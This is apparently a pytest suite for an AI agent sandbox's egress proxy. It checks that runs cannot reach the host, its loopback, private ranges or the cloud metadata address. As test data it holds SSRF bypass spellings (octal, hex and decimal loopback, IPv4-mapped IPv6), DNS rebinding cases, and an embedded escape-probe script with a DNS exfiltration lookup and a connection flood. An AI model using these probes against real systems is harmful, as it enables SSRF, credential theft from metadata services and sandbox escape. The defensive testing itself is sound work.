"""The network by policy (PI_AGENT_EGRESS): the proxy's decisions without
an engine (every literal form of an address, exceptions, rebinding, what
a client can send), then attacks from inside real runs against the real
engine: the host, its bridges and its loopback, a private range, the
metadata address, IPv6, UDP and DNS, the proxy itself. Traffic goes only
to this machine: its loopback, the engine's bridges, containers the tests
make (the internet's stand-in: a documentation range, 198.51.100.0/26)."""

import contextlib
import fcntl
import json
import os
import socket
import tempfile
import threading

import pytest

from conftest import ENGINE, docker, pi_agent


def spec(**values):
    base = {"mode": "public", "allow": [], "host_ports": [], "never": [],
            "upstream": {"no_proxy": []}, "network": "pi-agent-egress-1", "name": "p"}
    base.update(values)
    return base


def proxy(monkeypatch, answers=None, **values):
    """An EgressProxy as its container has it (gateway 172.30.0.1), its
    resolver `answers` {name: [address, ...]}; connect() records what it
    was given instead of connecting."""
    made = pi_agent.EgressProxy.__new__(pi_agent.EgressProxy)
    made.spec, made.lock, made.busy, made.refused = spec(**values), threading.Lock(), {}, {}
    made.names, made.v6 = {}, True
    made.gateway, made.never = "172.30.0.1", set(values.get("never", [])) | {"172.30.0.1"}
    made.asked, made.connected = [], []
    real = socket.getaddrinfo

    def resolve(host, port, *args):
        made.asked.append(host)
        if answers is not None and host in answers:
            return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "",
                     (a, 0)) for a in answers[host]]
        if answers is not None and not any(c.isdigit() for c in host.split(".")[-1]) \
                and ":" not in host:
            raise socket.gaierror("no such name")
        return real(host, port, *args)
    monkeypatch.setattr(socket, "getaddrinfo", resolve)

    def connect(upstream, addresses, dest, tunnel):
        made.connected.append((upstream, [sockaddr[0] for _family, sockaddr in addresses]))
        raise OSError("(not connected in this test)")
    made.connect = connect
    return made


def ask(made, request, client="172.31.0.5"):
    """What the proxy answers `request` (bytes) from `client`: its status line."""
    mine, theirs = socket.socketpair()
    with mine, theirs:
        mine.sendall(request)
        made.request(theirs, client)
        theirs.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: mine.recv(65536), b"")).decode("latin-1").split("\r\n")[0]


@pytest.mark.parametrize("address,kind", [
    ("127.0.0.1", "never"), ("127.8.9.10", "never"), ("0.0.0.0", "never"), ("::1", "never"),
    ("::", "never"), ("::ffff:127.0.0.1", "never"), ("::127.0.0.1", "never"),
    ("64:ff9b::7f00:1", "never"), ("2002:7f00:1::", "never"), ("169.254.169.254", "never"),
    ("fe80::1", "never"), ("224.0.0.251", "never"), ("255.255.255.255", "never"),
    ("ff02::1", "never"), ("10.1.2.3", "private"), ("172.17.0.1", "private"),
    ("192.168.1.1", "private"), ("100.64.0.1", "private"), ("198.18.0.1", "private"),
    ("fd00::1", "private"), ("::ffff:10.0.0.1", "private"), ("64:ff9b::a00:1", "private"),
    ("8.8.8.8", "public"), ("2606:4700::1111", "public"), ("198.51.100.7", "public"),
    ("::ffff:8.8.8.8", "public")])
def test_what_each_address_is_to_the_proxy(address, kind):
    assert pi_agent.address_class(address) == kind
    assert pi_agent.address_class("8.8.8.8", never={"8.8.8.8"}) == "never", "the host's own"


@pytest.mark.parametrize("target", [
    "localhost:22", "127.0.0.1:22", "2130706433:22", "0x7f.1:22", "0177.0.0.1:22",
    "127.1:22", "0:22", "[::1]:22", "[::ffff:127.0.0.1]:22", "[::ffff:7f00:1]:22",
    "169.254.169.254:80", "2852039166:80", "0xa9.0xfe.0xa9.0xfe:80", "10.0.0.5:5432",
    "0x0a000005:5432", "172.30.0.1:11434", "192.0.2.2:8080", "[fe80::1]:80"])
def test_every_spelling_of_the_host_loopback_lan_and_metadata_is_refused(monkeypatch, target):
    """Decimal, octal, hex and short IPv4 forms, IPv4 in IPv6, the proxy's
    gateway (the host) and the host's own public address: the resolver
    reads them as the kernel would, and the proxy judges what it read."""
    made = proxy(monkeypatch, never=["192.0.2.2"])
    status = ask(made, b"CONNECT %s HTTP/1.1\r\n\r\n" % target.encode())
    assert status.startswith("HTTP/1.1 403 pi-agent egress public: "), status
    assert made.connected == [] and made.refused["172.31.0.5"]["count"] == 1


def test_a_name_is_resolved_once_and_only_what_was_checked_is_connected_to(monkeypatch):
    """DNS rebinding: a name answering private and public addresses gets
    the public ones only; one answering only private ones is refused."""
    made = proxy(monkeypatch, {"rebind.example": ["10.0.0.1", "198.51.100.7", "127.0.0.1"],
                               "inside.example": ["10.0.0.1", "169.254.169.254"]})
    assert "502" in ask(made, b"CONNECT rebind.example:443 HTTP/1.1\r\n\r\n")
    assert made.connected == [(None, ["198.51.100.7"])] and made.asked == ["rebind.example"]
    status = ask(made, b"GET http://inside.example/latest/meta-data HTTP/1.1\r\n\r\n")
    assert status == ("HTTP/1.1 403 pi-agent egress public: 10.0.0.1 (inside.example) is a "
                      "private address; PI_AGENT_EGRESS_ALLOW can let it through")


def test_allow_reaches_the_list_only_and_exceptions_reach_private_ranges(monkeypatch):
    allow = pi_agent.parse_allow("*.corp.example, api.example:443, 10.9.0.0/16")
    made = proxy(monkeypatch, {"api.example": ["198.51.100.7"], "git.corp.example": ["10.1.1.1"],
                               "other.example": ["198.51.100.8"],
                               "evil.corp.example.net": ["198.51.100.9"]},
                 mode="allow", allow=allow)
    for target, allowed in (("api.example:443", True), ("api.example:80", False),
                            ("git.corp.example:22", True), ("10.9.8.7:5432", True),
                            ("other.example:443", False), ("evil.corp.example.net:443", False),
                            ("10.8.0.1:5432", False)):
        status = ask(made, b"CONNECT %s HTTP/1.1\r\n\r\n" % target.encode())
        assert ("502" in status) == allowed and ("403" in status) != allowed, (target, status)
    public = proxy(monkeypatch, {"git.corp.example": ["10.1.1.1", "127.0.0.1"]}, allow=allow)
    assert "502" in ask(public, b"CONNECT git.corp.example:443 HTTP/1.1\r\n\r\n")
    assert public.connected == [(None, ["10.1.1.1"])], "never loopback, even for a listed name"


def test_the_hosts_ports_are_its_own_exception(monkeypatch):
    made = proxy(monkeypatch, host_ports=[11434])
    assert "502" in ask(made, b"GET http://host.docker.internal:11434/api/tags HTTP/1.1\r\n\r\n")
    assert made.connected == [(None, ["172.30.0.1"])]
    assert ask(made, b"CONNECT host.docker.internal:22 HTTP/1.1\r\n\r\n") == (
        "HTTP/1.1 403 pi-agent egress public: host.docker.internal:22 is not in "
        "PI_AGENT_HOST_PORTS")


def test_your_proxy_carries_what_the_policy_lets_through_and_no_proxy_goes_direct(monkeypatch):
    upstream = {"https": ["10.0.0.3", 3128, "Basic dTpw"], "http": ["10.0.0.3", 3128, None],
                "no_proxy": ["corp.example", "*.corp.example"]}
    made = proxy(monkeypatch, {"api.example": ["198.51.100.7"], "inside.example": ["10.0.0.9"],
                               "git.corp.example": ["198.51.100.9"]}, upstream=upstream)
    ask(made, b"CONNECT api.example:443 HTTP/1.1\r\n\r\n")
    ask(made, b"CONNECT git.corp.example:443 HTTP/1.1\r\n\r\n")
    assert "403" in ask(made, b"CONNECT inside.example:443 HTTP/1.1\r\n\r\n"), \
        "the policy first: your proxy may reach your LAN"
    ask(made, b"GET http://only.yours.example/ HTTP/1.1\r\n\r\n")
    assert made.connected == [(upstream["https"], ["198.51.100.7"]), (None, ["198.51.100.9"]),
                              (upstream["http"], [])], "a name only your proxy resolves"


@pytest.mark.parametrize("request_,answer", [
    (b"CONNECT example.com HTTP/1.1\r\n\r\n", "400"),
    (b"GET https://example.com/ HTTP/1.1\r\n\r\n", "400"),
    (b"GET http://user@127.0.0.1/ HTTP/1.1\r\n\r\n", "400"),
    (b"GET / HTTP/1.1\r\n\r\n", "400 pi-agent egress public: this is pi-agent's egress proxy"),
    (b"CONNECT ex\xc3\xa4mple.com:443 HTTP/1.1\r\n\r\n", "400"),
    (b"CONNECT example.com:99999 HTTP/1.1\r\n\r\n", "400"),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", "400"),
    (b"GET http://a/ HTTP/1.1\r\nX: " + b"a" * 20000 + b"\r\n\r\n", "431"),
    (b"GET http://a/ HTTP/1.1\r\nX: " + b"a" * 20000, "431")])
def test_what_a_client_may_send_gets_one_line_and_never_a_connection(monkeypatch, request_,
                                                                     answer):
    made = proxy(monkeypatch, {})
    status = ask(made, request_)
    assert status.startswith("HTTP/1.1 " + answer), status
    assert made.connected == []


def test_what_the_proxy_refused_is_the_hosts_to_ask_not_a_runs(monkeypatch):
    made = proxy(monkeypatch, {})
    ask(made, b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n", client="172.31.0.5")
    assert "400" in ask(made, b"GET /172.31.0.5 HTTP/1.1\r\n\r\n", client="172.31.0.9")
    mine, theirs = socket.socketpair()
    with mine, theirs:
        mine.sendall(b"GET /172.31.0.5 HTTP/1.0\r\n\r\n")
        made.request(theirs, "172.30.0.1")
        theirs.close()
        said = json.loads(b"".join(iter(lambda: mine.recv(65536), b"")).partition(
            b"\r\n\r\n")[2])
    assert said == {"name": "p", "refused": {"count": 1, "places": {"127.0.0.1:22": {
        "count": 1, "why": "127.0.0.1 is never reachable from a run (loopback, link-local, the "
        "host)"}}}}


@pytest.mark.parametrize("value,needle", [
    ("169.254.169.254", "link-local"), ("0.0.0.0/0", "loopback"), ("::/0", "loopback"),
    ("host.docker.internal:11434", "PI_AGENT_HOST_PORTS=11434"), ("a@b", "not a name"),
    ("x.example:0", "port")])
def test_exceptions_that_would_open_too_much_are_bad_settings(value, needle):
    with pytest.raises(pi_agent.BadSetting, match=needle):
        pi_agent.parse_allow(value)


def test_the_policy_setting_and_its_neighbours(tmp_path):
    environ = {"HOME": str(tmp_path), "PI_AGENT_CONFIG": str(tmp_path / "none")}
    assert pi_agent.Config(environ).egress == "public"
    assert pi_agent.Config(dict(environ, PI_AGENT_NETWORK="none")).egress == "none"
    assert pi_agent.Config(dict(environ, PI_AGENT_NETWORK="mine")).egress == "open", \
        "a network of yours is yours to rule"
    with pytest.raises(pi_agent.BadSetting, match="PI_AGENT_EGRESS=open with it"):
        pi_agent.Config(dict(environ, PI_AGENT_NETWORK="mine", PI_AGENT_EGRESS="public"))
    with pytest.raises(pi_agent.BadSetting, match="use public, allow, open or none"):
        pi_agent.Config(dict(environ, PI_AGENT_EGRESS="closed"))
    with pytest.raises(pi_agent.BadSetting, match="PI_AGENT_HOST_PORTS"):
        pi_agent.Config(dict(environ, PI_AGENT_HOST_PORTS="ollama"))
    for typo in ("PI_AGENT_EGRES", "PI_AGENT_EGRESS_ALOW", "PI_AGENT_EGRESS_POLICY"):
        with pytest.raises(pi_agent.BadSetting, match=typo):
            pi_agent.network_typos({typo: "none"})
    with pytest.raises(pi_agent.PiError, match="--offline is --egress none"):
        pi_agent.parse_args(["exec", "--offline", "--egress", "open", "true"])
    assert pi_agent.parse_args(["run", "--egress=allow", "fix"]).egress == "allow"


def test_a_runs_arguments_and_variables_under_each_policy(tmp_path):
    environ = {"HOME": str(tmp_path), "PI_AGENT_CONFIG": str(tmp_path / "none"),
               "PI_AGENT_STATE_DIR": str(tmp_path / "state"),
               "HTTPS_PROXY": "http://u:p%40ss@proxy.corp:8080", "NO_PROXY": ".corp"}
    image = {"Id": "sha256:abc", "Config": {"Cmd": ["bash"], "Env": ["HOME=/home/agent"]}}

    def plan(**env):
        config = pi_agent.Config(dict(environ, **env))
        return pi_agent.RunPlan(pi_agent.Line(config), "run", [], image, pi_agent.Project(
            "/tmp/p"), dict(environ, **env), 1.0, 1, False, "snap-x")
    public = plan()
    args, env = public.run_args, dict(public.env)
    assert args[args.index("--network") + 1] == "pi-agent-egress-%d" % os.getuid()
    assert env["HTTPS_PROXY"] == env["http_proxy"] == "http://%s:3128" % public.egress.proxy
    assert env["NO_PROXY"] == "localhost,127.0.0.1,::1" and env["ALL_PROXY"] == ""
    assert public.egress.spec["upstream"]["https"] == ["proxy.corp", 8080, "Basic dTpwQHNz"]
    assert "u:p" not in json.dumps(public.env), "your proxy's password stays out of the run"
    assert public.egress.proxy != plan(PI_AGENT_EGRESS="allow").egress.proxy
    assert "api.anthropic.com" in json.dumps(plan(PI_AGENT_EGRESS="allow",
                                                  PI_AGENT_AGENT="claude").egress.spec)
    opened = plan(PI_AGENT_EGRESS="open")
    assert "--network" not in opened.run_args and dict(opened.env)["HTTPS_PROXY"].startswith(
        "http://u:p") and "host.docker.internal:host-gateway" in opened.run_args


# --- against the real engine: attacks from inside a run

class Listener:
    """A TCP server on every address of the host (IPv4 and IPv6), and a
    UDP one: what reaches them, counted. The test's "service on 0.0.0.0"."""

    def __init__(self, host="::"):
        self.tcp = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        if ":" in host:
            self.tcp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.tcp.bind((host, 0))
        self.tcp.listen(64)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                                 socket.SOCK_DGRAM)
        if ":" in host:
            self.udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.udp.bind((host, self.port))
        self.udp.setblocking(False)
        self.peers = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                conn, peer = self.tcp.accept()
            except OSError:
                return
            self.peers.append(peer[0])
            with conn:
                conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\nthe host\n")

    def datagrams(self):
        got = []
        while True:
            try:
                got.append(self.udp.recvfrom(2048)[1][0])
            except BlockingIOError:
                return got

    def close(self):
        self.tcp.close()
        self.udp.close()


def host_addresses():
    """The host's own addresses but loopback (one link-local of them)."""
    found = sorted(a for a in pi_agent.local_addresses() if pi_agent.address_class(a) != "never")
    return found + sorted(a for a in pi_agent.local_addresses() if a.startswith("fe80"))[:1]


def proxy_of(box, env=None):
    """The run's proxy (its first run starts it): from the run's own variable."""
    out = box.ok("pi-exec sh -c 'echo $HTTP_PROXY'", env=env).stdout.strip()
    return out[len("http://"):].split(":")[0]


# A web server in a test container: it answers every GET with its argument.
WEB = ("import http.server, sys\n"
       "class H(http.server.BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        body = (sys.argv[1] + '\\n').encode()\n"
       "        self.send_response(200); self.send_header('Content-Length', len(body))\n"
       "        self.end_headers(); self.wfile.write(body)\n"
       "http.server.ThreadingHTTPServer(('0.0.0.0', 80), H).serve_forever()\n")


_NETWORKS = {"depth": 0, "file": None}


@contextlib.contextmanager
def networks_held():
    """One test at a time, across test workers, makes networks or runs
    beside them: their subnets are fixed (the engine refuses a second
    network on one), and a bridge made during a run is the host's to every
    proxy (see test_attack_egress). Held again in one process, it nests."""
    if not _NETWORKS["depth"]:
        _NETWORKS["file"] = open(os.path.join(tempfile.gettempdir(),
                                              "pi-agent-test-networks.lock"), "w")
        fcntl.flock(_NETWORKS["file"], fcntl.LOCK_EX)
    _NETWORKS["depth"] += 1
    try:
        yield
    finally:
        _NETWORKS["depth"] -= 1
        if not _NETWORKS["depth"]:
            _NETWORKS["file"].close()


@pytest.fixture
def internet(box):
    """The internet's stand-in: a network in a documentation range the
    proxy counts as public, a web server there (its name, `inet`), a
    private-range one on another network (`lan`), a cloud metadata service
    (`meta`, 169.254.169.254), each also listening for UDP; attach(proxy)
    puts the proxy on their networks, as a router would."""
    suffix = box.repo.rsplit("/", 1)[1]
    made = {"nets": [], "boxes": []}
    held = networks_held()
    held.__enter__()
    server = ("import socket, threading\n"
              "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 53))\n"
              "threading.Thread(target=lambda: [print('udp', u.recvfrom(512)[1][0], flush=True)"
              " for _ in iter(int, 1)], daemon=True).start()\n") + WEB
    for name, subnet, ip in (("inet", "198.51.100.0/26", []), ("lan", "10.213.0.0/24", []),
                             ("meta", "169.254.169.0/24", ["--ip", "169.254.169.254"])):
        net = "pi-agent-test-%s-%s" % (name, suffix)
        docker("network", "create", "--subnet", subnet, net)
        made["nets"].append(net)
        container = "pi-agent-test-%s-%s" % (name, suffix)
        docker("run", "-d", "--rm", "--name", container, "--network", net, *ip,
               "--network-alias", name, "-u", "0", "--entrypoint", "python3",
               box.repo + ":base", "-c", server, "%s server" % name)
        made["boxes"].append(container)
        made[name] = docker("inspect", "--format", "{{range .NetworkSettings.Networks}}"
                            "{{.IPAddress}}{{end}}", container).stdout.strip()

    def attach(proxy):
        for net in made["nets"]:
            docker("network", "connect", net, proxy, check=False)
            made.setdefault("attached", []).append((net, proxy))
    made["attach"] = attach
    made["udp"] = lambda: "".join(docker("logs", c).stdout for c in made["boxes"])
    yield made
    for net, proxy in made.get("attached", []):
        docker("network", "disconnect", "-f", net, proxy, check=False)
    docker("rm", "-f", *made["boxes"], check=False)
    for net in made["nets"]:
        docker("network", "rm", net, check=False)
    held.__exit__(None, None, None)


ATTACK = r"""
import json, os, select, socket, sys, time
args = json.loads(sys.argv[1])
proxy = os.environ["HTTP_PROXY"][len("http://"):].split(":")[0]
out = {}

def direct(host, port, family=socket.AF_INET):
    s = socket.socket(family)
    s.settimeout(0.5)
    try:
        s.connect((host, port) if family == socket.AF_INET else (host, port, 0, 2))
        return "CONNECTED"
    except OSError as err:
        return "failed: %s" % err
    finally:
        s.close()

def via(line, then=b""):
    s = socket.create_connection((proxy, 3128), 10)
    s.sendall(line.encode() + b"\r\n\r\n")
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    status = data.split(b"\r\n")[0].decode("latin-1")
    if then and " 200 " in status:
        s.sendall(then)
        data = b""
    try:
        data += b"".join(iter(lambda: s.recv(65536), b""))
    except OSError as err:
        data += b"\r\n\r\n(%s)" % str(err).encode()
    s.close()
    return status, data.decode("latin-1").rpartition("\r\n\r\n")[2].strip()

for address in args["host"]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    out["direct to the host at " + address] = direct(address, args["port"], family)
    try:
        u = socket.socket(family, socket.SOCK_DGRAM)
        u.sendto(b"x", (address, args["port"]) + ((0, 2) if ":" in address else ()))
    except OSError:
        pass
for name in ("inet", "lan", "meta"):
    out["direct to " + name] = direct(args[name], 80)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (args[name], 53))
    except OSError:
        pass
started = time.monotonic()
try:
    socket.getaddrinfo("exfiltrate-%s.example.com" % args["port"], 80)
    out["an outside name"] = "RESOLVED"
except OSError as err:
    out["an outside name"] = "failed in %.0f s: %s" % (time.monotonic() - started, err)
for target in args["connect"]:
    out["CONNECT " + target] = via("CONNECT %s HTTP/1.1" % target,
                                   b"GET / HTTP/1.0\r\n\r\n")
for url in args["get"]:
    out["GET " + url] = via("GET %s HTTP/1.1\r\nHost: %s" % (url, url.split("/")[2]))
out["the proxy's own status"] = via("GET / HTTP/1.1")
out["the proxy's record of this run"] = via("GET /%s HTTP/1.1" % os.uname().nodename)
out["an overlong head"] = via("GET http://inet/ HTTP/1.1\r\nX: " + "a" * 40000)
held = [socket.create_connection((proxy, 3128), 5) for _ in range(80)]
answered, deadline = {}, time.monotonic() + 10
while len(answered) < 16 and time.monotonic() < deadline:
    for s in select.select([s for s in held if s not in answered], [], [], 1)[0]:
        answered[s] = s.recv(100).split(b"\r\n")[0].decode()
out["80 connections at once"] = sorted(set(answered.values())) + ["held"] * (len(answered) < 80)
for s in held:
    s.close()
out["after them"] = via("CONNECT inet:80 HTTP/1.1", b"GET / HTTP/1.0\r\n\r\n")
print(json.dumps(out))
"""


@pytest.mark.long
def test_public_is_the_internet_and_nothing_of_the_host_lan_or_metadata(box, internet):
    """The default, attacked from inside a run: the host's services on
    every address it has (its bridges, its own public address), its
    loopback under every spelling, a private range by address and by
    name, the metadata address, IPv6, UDP and DNS, the proxy left out
    (unset HTTP_PROXY), the proxy's own status, an overlong request, more
    connections than it takes. The internet's stand-in is reached, over
    CONNECT and plain HTTP; what was refused is said and kept in pi-log;
    the proxy is unharmed and not the agent's to change."""
    box.init_repo()
    listener = Listener()
    try:
        proxy = proxy_of(box)
        internet["attach"](proxy)
        before = docker("inspect", "--format", "{{.Id}}", proxy).stdout
        meta = internet["meta"]
        hosts = host_addresses()
        args = {"host": hosts, "port": listener.port, "inet": internet["inet"],
                "lan": internet["lan"], "meta": meta,
                "connect": ["inet:80", "%s:80" % internet["inet"], "lan:80",
                            "%s:80" % internet["lan"], meta + ":80", "localhost:%d" % listener.port,
                            "2130706433:%d" % listener.port, "0x7f.1:%d" % listener.port,
                            "[::ffff:127.0.0.1]:%d" % listener.port, "%s:3128" % proxy,
                            "host.docker.internal:%d" % listener.port] + [
                    "[%s]:%d" % (a, listener.port) if ":" in a else "%s:%d" % (a, listener.port)
                    for a in hosts],
                "get": ["http://inet/", "http://%s/latest/meta-data/" % meta,
                        "http://lan/"]}
        result = box.sh("pi-exec python3 -c '%s' '%s'" % (ATTACK.replace("'", "'\\''"),
                                                           json.dumps(args)))
        assert result.returncode == 0, result.stderr
        out = json.loads(result.stdout)
    finally:
        datagrams = listener.datagrams()
        listener.close()
    reached = {key: value for key, value in out.items() if "CONNECTED" in str(value)
               or " 200 " in str(value)}
    assert set(reached) == {"CONNECT inet:80", "CONNECT %s:80" % internet["inet"],
                            "GET http://inet/", "after them"}, json.dumps(out, indent=1)
    assert all(value[1] == "inet server" for value in reached.values())
    assert listener.peers == [] and datagrams == [], "nothing reached the host"
    assert "udp" not in internet["udp"](), "no UDP (nor DNS) left the run"
    assert out["an outside name"].startswith(("failed in 0 s", "failed in 1 s",
                                              "failed in 2 s")), out["an outside name"]
    assert out["CONNECT %s:80" % meta][0] == ("HTTP/1.1 403 pi-agent egress public: %s is never "
                                              "reachable from a run (loopback, link-local, the "
                                              "host)" % meta)
    assert out["CONNECT lan:80"][0].startswith("HTTP/1.1 403 pi-agent egress public: %s (lan) "
                                               "is a private address" % internet["lan"])
    assert out["the proxy's own status"][0].startswith("HTTP/1.1 400")
    assert out["the proxy's record of this run"][0].startswith("HTTP/1.1 400")
    assert out["an overlong head"][0].startswith("HTTP/1.1 431")
    assert "held" in out["80 connections at once"] and any(
        " 503 " in answer for answer in out["80 connections at once"])
    # Said before the prompt, and kept in the session log.
    assert "the egress proxy refused" in result.stderr and meta + ":80" in result.stderr
    record = json.loads(box.ok("pi-log --json -n 1").stdout)[0]
    assert record["egress"] == "public" and record["refused"]["count"] >= 15
    assert "%s:80" % meta in record["refused"]["places"]
    # The proxy: the same container, unharmed, nothing of it the agent's.
    info = json.loads(docker("inspect", proxy).stdout)[0]
    assert info["Id"] + "\n" == before and info["State"]["Running"]
    assert info["HostConfig"]["ReadonlyRootfs"] and info["HostConfig"]["CapDrop"] == ["ALL"]
    assert [m["RW"] for m in info["Mounts"]] == [False]
    assert info["Config"]["Image"] == box.repo + ":base"


FETCH = ("for url in \"$@\"; do printf '%s ' \"$url\"; curl -s -m 10 -o /dev/null "
         "-w '%{http_connect} %{http_code}\\n' \"$url\"; done; true")


def fetch(box, urls, env=None):
    """{url: (CONNECT's status, the answer's)} as curl in a run has them."""
    out = box.ok("pi-exec sh -c %s fetch %s" % (pi_agent.shlex.quote(FETCH), " ".join(urls)),
                 env=env).stdout
    return {row.split()[0]: tuple(row.split()[1:]) for row in out.splitlines()}


def test_allow_reaches_only_the_list_the_agents_own_hosts_and_exceptions(box, internet):
    """Under allow: a listed name, an exception into a private range, the
    agent's own registry (which this machine reaches); not the same server
    by its address, another public host, nor metadata."""
    env = {"PI_AGENT_EGRESS": "allow", "PI_AGENT_EGRESS_ALLOW": "inet, 10.213.0.0/24:80"}
    internet["attach"](proxy_of(box, env))
    got = fetch(box, ["http://inet/", "http://%s/" % internet["inet"], "http://lan/",
                      "http://lan:8080/", "http://%s/" % internet["meta"],
                      "https://registry.npmjs.org/", "https://deb.debian.org/"], env)
    assert got == {"http://inet/": ("000", "200"),
                   "http://%s/" % internet["inet"]: ("000", "403"),
                   "http://lan/": ("000", "200"), "http://lan:8080/": ("000", "403"),
                   "http://%s/" % internet["meta"]: ("000", "403"),
                   "https://registry.npmjs.org/": ("200", "200"),
                   "https://deb.debian.org/": ("403", "000")}, got


def test_your_hosts_loopback_ports_are_forwarded_those_only_while_the_run_lasts(box):
    """PI_AGENT_HOST_PORTS: a model server on the host's 127.0.0.1 is
    host.docker.internal:PORT in a run; another loopback port is not; the
    forward is gone when the run ends."""
    model, other = Listener("127.0.0.1"), Listener("127.0.0.1")
    env = {"PI_AGENT_HOST_PORTS": str(model.port)}
    try:
        got = fetch(box, ["http://host.docker.internal:%d/api/tags" % model.port,
                          "http://host.docker.internal:%d/" % other.port], env)
        gateway = json.load(open(os.path.join(box.state_dir, "egress.json")))["outside"][0]
        box.wait_saved()
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection((gateway, model.port), 2).close()
    finally:
        model.close()
        other.close()
    assert got == {"http://host.docker.internal:%d/api/tags" % model.port: ("000", "200"),
                   "http://host.docker.internal:%d/" % other.port: ("000", "403")}, got
    assert len(model.peers) == 1 and other.peers == []


def test_the_proxy_keeps_no_reset_waiting_and_goes_with_the_base(box):
    """The egress proxy runs from the line's base but is none of its runs:
    pi-reset-all does not wait a minute for it to end, and pi-reset-all
    --base (the uninstaller's --purge) is not refused for it, and removes it."""
    env = {"PI_AGENT_EGRESS": "public"}
    # A base of the line's own, with its label, as pi builds one (the tests'
    # is shared by their lines).
    ENGINE.run("build", "-q", "--label", "pi-agent.repo=" + box.repo, "-t", box.repo + ":base",
               "-", input="FROM %s:base\n" % box.repo)

    def proxies():
        return docker("ps", "-q", "--filter", "label=pi-agent.egress=%d" % box.user.uid,
                      "--filter", "label=pi-agent.egress-base=%s:base" % box.repo).stdout.split()
    box.ok("pi-exec true", env=env)
    assert proxies()
    box.ok("pi-reset-all --yes", env=env)
    done = box.sh("pi-reset-all --base --yes", env=env)
    assert done.returncode == 0, done.stderr
    assert proxies() == []


def test_open_is_the_engines_network_none_is_nothing_and_both_are_shown(box):
    box.init_repo()
    host = Listener()
    try:
        opened = box.ok("pi-exec --egress open sh -c 'getent hosts host.docker.internal && "
                        "curl -s -m 5 http://host.docker.internal:%d/'" % host.port).stdout
    finally:
        host.close()
    assert opened.endswith("the host\n") and len(host.peers) == 1, opened
    assert box.ok("pi-exec --egress none ls /sys/class/net").stdout.split() == ["lo"]
    dry = box.ok("pi --dry-run", env={"PI_AGENT_EGRESS": "allow"}).stdout
    assert "# network: PI_AGENT_EGRESS=allow, only PI_AGENT_EGRESS_ALLOW" in dry
    assert "--network pi-agent-egress-%d " % box.user.uid in dry
    status = box.ok("pi-status", env={"PI_AGENT_EGRESS": "none"}).stdout
    assert "network: none: no network" in status and "PI_AGENT_EGRESS" in status


def test_a_proxy_that_cannot_start_stops_the_run_before_it_starts(box):
    """A base with no python3 cannot run the proxy: one line, exit 8, no
    container, nothing of the run left; never a run with an open network."""
    docker("tag", "local/debian:bookworm", box.repo + ":base")
    result = box.sh("pi-exec true")
    assert result.returncode == 8 and result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("pi-agent: the egress proxy did not start: ")
    assert "PI_AGENT_EGRESS=open runs without it" in result.stderr
    box.wait_saved()
    assert box.containers() == [] and not os.path.exists(os.path.join(box.state_dir, "run"))
    assert box.ok("pi-exec --egress open echo open").stdout == "open\n"


def test_your_proxy_is_the_egress_proxys_way_on(box, internet):
    """HTTPS_PROXY on the host: the run gets the egress proxy, which goes
    on through yours (here the only way to the internet's stand-in)."""
    proxy_of(box)  # (the networks, made)
    out = "pi-agent-egress-%d-out" % box.user.uid
    name = "pi-agent-test-upstream-" + box.repo.rsplit("/", 1)[1]
    upstream = json.dumps({"mode": "public", "allow": [], "host_ports": [], "never": [],
                           "upstream": {"no_proxy": []}, "network": "-", "name": "up"})
    docker("run", "-d", "--rm", "--name", name, "--network", out, "-e",
           "PI_AGENT_EGRESS_SPEC=" + upstream, "-v", "%s/pi_agent.py:/p/pi_agent.py:ro"
           % box.install_dir, "--entrypoint", "python3", box.repo + ":base", "-c",
           "import sys; sys.path.insert(0, '/p'); import pi_agent; pi_agent.serve_egress()")
    try:
        docker("network", "connect", internet["nets"][0], name)
        address = docker("inspect", "--format", '{{(index .NetworkSettings.Networks "%s")'
                         '.IPAddress}}' % out, name).stdout.strip()
        env = {"HTTPS_PROXY": "http://%s:3128" % address, "HTTP_PROXY": "http://%s:3128" % address}
        got = fetch(box, ["http://inet/", "https://%s:80/" % internet["inet"],
                          "http://%s/" % internet["lan"]], env)
    finally:
        docker("rm", "-f", name, check=False)
    assert got == {"http://inet/": ("000", "200"), "https://%s:80/" % internet["inet"]: (
        "200", "000"), "http://%s/" % internet["lan"]: ("000", "403")}, got


def test_your_proxy_on_your_loopback_is_forwarded_to_the_proxy_not_the_agent(tmp_path):
    environ = {"HOME": str(tmp_path), "PI_AGENT_CONFIG": str(tmp_path / "none"),
               "HTTP_PROXY": "http://127.0.0.1:3129", "ALL_PROXY": "socks5://127.0.0.1:1080"}
    egress = pi_agent.Egress(pi_agent.Config(environ), environ)
    assert egress.spec["upstream"]["http"] == ["host.docker.internal", 3129, None]
    assert "https" not in egress.spec["upstream"], "a socks ALL_PROXY is not chained"
    assert egress.forward == [3129] and egress.spec["host_ports"] == [], \
        "forwarded for the proxy; host.docker.internal:3129 stays refused to the agent"
